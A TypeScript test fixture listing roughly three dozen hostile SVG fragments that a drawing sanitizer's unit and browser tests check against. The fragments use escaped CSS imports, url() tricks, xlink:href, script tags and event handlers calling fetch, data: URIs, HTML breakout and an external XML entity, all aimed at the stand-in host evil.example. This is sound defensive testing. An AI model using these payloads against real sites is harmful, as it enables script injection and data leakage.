/**
 * Fragments of drawings that would load `https://evil.example/…` or run a script if they were published unchanged. They
 * are used by the tests here and in a browser (e2e/drawings.spec.ts).
 */
export const hostileDrawings: [name: string, inside: string][] = [
  ['an entity that becomes an at sign', '<style>&amp;#64;import "https://evil.example/1.css";</style>'],
  ['one in CDATA', '<style><![CDATA[&#64;import "https://evil.example/2.css";]]></style>'],
  ['an escaped rule', '<style>\\40 import "https://evil.example/3.css";</style>'],
  ['an escaped letter', '<style>@\\69mport "https://evil.example/4.css";</style>'],
  ['an import after a comment', '<style>/* a */@import/**/"https://evil.example/5.css";</style>'],
  [
    'an address between comment signs in strings',
    '<style>.a{content:"/*";fill:url(https://evil.example/6.svg#a)}.b{content:"*/"}</style><rect class="a" width="9" height="9"/>',
  ],
  ['url( in capitals', '<style>rect{fill:URL( "https://evil.example/7.svg#a" )}</style>'],
  ['url( escaped', '<style>rect{mask:u\\52L(https://evil.example/8.svg#a)}</style>'],
  ['image-set', '<style>svg{background:image-set("https://evil.example/9.png" 1x)}</style>'],
  ['image-set with a prefix', '<style>svg{background:-webkit-image-set("https://evil.example/10.png" 1x)}</style>'],
  ['src()', '<style>svg{background:src("https://evil.example/11.png")}</style>'],
  [
    'a font',
    '<style>@font-face{font-family:x;src:url(https://evil.example/12.woff2)}text{font-family:x}</style><text>a</text>',
  ],
  [
    'a style attribute',
    '<rect style="cursor:url(https://evil.example/13.cur),auto;fill:url(//evil.example/13.svg#a)"/>',
  ],
  ['an attribute', '<rect mask="url(https://evil.example/14.svg#a)" fill="url(\'https://evil.example/14.svg#b\')"/>'],
  ['an image', '<image href="https://evil.example/15.png" width="9" height="9"/>'],
  ['an image by its old name', '<image xlink:href="https://evil.example/16.png" width="9" height="9"/>'],
  ['use', '<use href="https://evil.example/17.svg#a"/>'],
  ['use by its old name', '<use xlink:href="//evil.example/18.svg#a"/>'],
  ['both names', '<use href="#a" xlink:href="https://evil.example/19.svg#a"/>'],
  [
    'foreignObject',
    '<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/20.png"/></foreignObject>',
  ],
  ['a script', '<script>fetch("https://evil.example/21")</script>'],
  ['a script elsewhere', '<script href="https://evil.example/22.js"/>'],
  ['an event handler', '<rect onload="fetch(\'https://evil.example/23\')" width="9" height="9"/>'],
  [
    'an animation that sets href',
    '<image id="i" width="9" height="9"><animate attributeName="href" values="https://evil.example/24.png"/></image>',
  ],
  ['set', '<image width="9" height="9"><set attributeName="xlink:href" to="https://evil.example/25.png"/></image>'],
  ['a style sheet by instruction', '<?xml-stylesheet href="https://evil.example/26.css"?>'],
  [
    'a drawing in data:',
    '<image width="9" height="9" href="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cscript%3Efetch(%22https://evil.example/27%22)%3C/script%3E%3C/svg%3E"/>',
  ],
  ['a drawing in data: in CSS', '<style>svg{background:url("data:image/svg+xml,%3Csvg/%3E#evil")}</style>'],
  [
    'a filter',
    '<filter id="f"><feImage href="https://evil.example/29.png"/></filter><rect width="9" height="9" filter="url(#f)"/>',
  ],
  ['a base for references', '<g xml:base="https://evil.example/30/"><use href="#a"/></g>'],
  [
    'HTML that breaks out',
    '</svg><img src="https://evil.example/31.png" onerror="fetch(\'https://evil.example/31\')"/>',
  ],
  ['an HTML style in a title', '<title><style>@import "https://evil.example/32.css";</style></title>'],
  [
    'a link element',
    '<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://evil.example/33.css"/>',
  ],
  ['a style that ends early', '<style>a{}</style&#62;@import "https://evil.example/34.css";</style>'],
  [
    'a string that is not closed',
    '<style>a{content:"x\n}@import "https://evil.example/35.css";rect{fill:url(https://evil.example/35.svg#a)}</style>',
  ],
  ['entities of a document type', '<!DOCTYPE svg [<!ENTITY x SYSTEM "https://evil.example/36.xml">]><text>&x;</text>'],
];
